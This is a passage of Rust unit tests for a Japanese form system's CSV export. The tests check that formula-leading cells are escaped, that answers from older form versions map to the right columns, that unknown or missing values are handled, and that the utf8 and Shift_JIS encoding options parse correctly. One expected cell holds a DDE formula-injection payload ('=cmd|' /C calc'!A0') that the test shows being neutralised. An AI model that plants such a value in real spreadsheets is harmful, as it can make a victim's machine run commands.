            ("notes", "=1+1\n-2"),
        ];
        let payload = payload(&def, &input);
        let (rows, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[record(&payload, "received")]);
        assert_eq!(rows[0][15], "-連絡事項", "header cells are not guarded");
        let cells: Vec<_> = [4, 7, 8, 14, 15].iter().map(|&i| rows[1][i].as_str()).collect();
        assert_eq!(cells, ["'=cmd|' /C calc'!A0", "'@東京都", "'+千代田1-1", "'-3", "'=1+1\r\n-2"]);
    }

    #[test]
    fn a_record_of_another_version_fills_the_columns_both_versions_share() {
        let old = FormDefinition::parse(
            r#"
id = "export-test"
title = { ja = "書き出し試験" }
[[fields]]
name = "applicant"
type = "name"
label = { ja = "氏名" }
[[fields]]
name = "fax"
type = "phone"
label = { ja = "FAX番号" }
[[fields]]
name = "plan"
type = "text"
label = { ja = "プラン（自由記入）" }
"#,
        )
        .expect("parses");
        let payload = payload(
            &old,
            &[("applicant", "山田"), ("applicant.kana", "ヤマダ"), ("fax", "0312345678"), ("plan", "特別なもの")],
        );
        let def = form();
        let (rows, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[record(&payload, "received")]);
        let want = [
            "2026-000123",
            "2026-11-25 19:27",
            "受付",
            "3",
            "山田",
            "ヤマダ",
            "",
            "",
            "",
            "",
            // The field changed kind (text, now a choice): the old answer
            // is kept as typed.
            "特別なもの",
            "",
            "",
            "",
            "",
            "",
            "",
        ];
        assert_eq!(rows[1], want);
        assert!(!rows[1].iter().any(|c| c.contains("3-1234")), "the dropped fax field is left out");
    }

    #[test]
    fn a_value_whose_shape_changed_goes_into_the_first_column() {
        let def = form();
        let payload = serde_json::json!({
            "form_id": "export-test",
            "values": {
                "applicant": { "Text": "山田太郎" },
                "home": { "Text": "東京都千代田区千代田1-1" },
                "plan": { "Hologram": "?" },
                "start": { "Date": "2026-12-01" },
            }
        });
        let (rows, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[record(&payload, "received")]);
        assert_eq!(rows[1][4..10], ["山田太郎", "", "東京都千代田区千代田1-1", "", "", ""]);
        assert_eq!(rows[1][10], r#"{"Hologram":"?"}"#, "an unknown kind is shown raw, not lost");
        assert_eq!(rows[1][12], "2026-12-01");
    }

    #[test]
    fn a_payload_without_values_gives_an_empty_row_of_full_width() {
        let def = form();
        for payload in [serde_json::json!({}), serde_json::json!(null), serde_json::json!({ "values": [] })] {
            let (rows, _) = export(&def, CsvEncoding::Utf8Bom, Lang::Ja, &[record(&payload, "received")]);
            assert_eq!(rows[1].len(), rows[0].len());
            assert!(rows[1][4..].iter().all(String::is_empty), "{payload}");
        }
    }

    #[test]
    fn encoding_parameter_and_content_type() {
        let cases = [
            ("utf8", Some(CsvEncoding::Utf8Bom)),
            ("UTF-8", Some(CsvEncoding::Utf8Bom)),
            ("sjis", Some(CsvEncoding::ShiftJis)),
            ("Shift_JIS", Some(CsvEncoding::ShiftJis)),
            ("cp932", Some(CsvEncoding::ShiftJis)),
            ("latin1", None),
            ("", None),
        ];
        for (param, want) in cases {
            assert_eq!(CsvEncoding::from_param(param), want, "{param}");
        }
        for encoding in [CsvEncoding::Utf8Bom, CsvEncoding::ShiftJis] {
            assert_eq!(CsvEncoding::from_param(encoding.param()), Some(encoding));
        }
        assert_eq!(CsvEncoding::default(), CsvEncoding::Utf8Bom);
        assert_eq!(CsvEncoding::Utf8Bom.content_type(), "text/csv; charset=utf-8");
        assert_eq!(CsvEncoding::ShiftJis.content_type(), "text/csv; charset=Shift_JIS");
    }
}
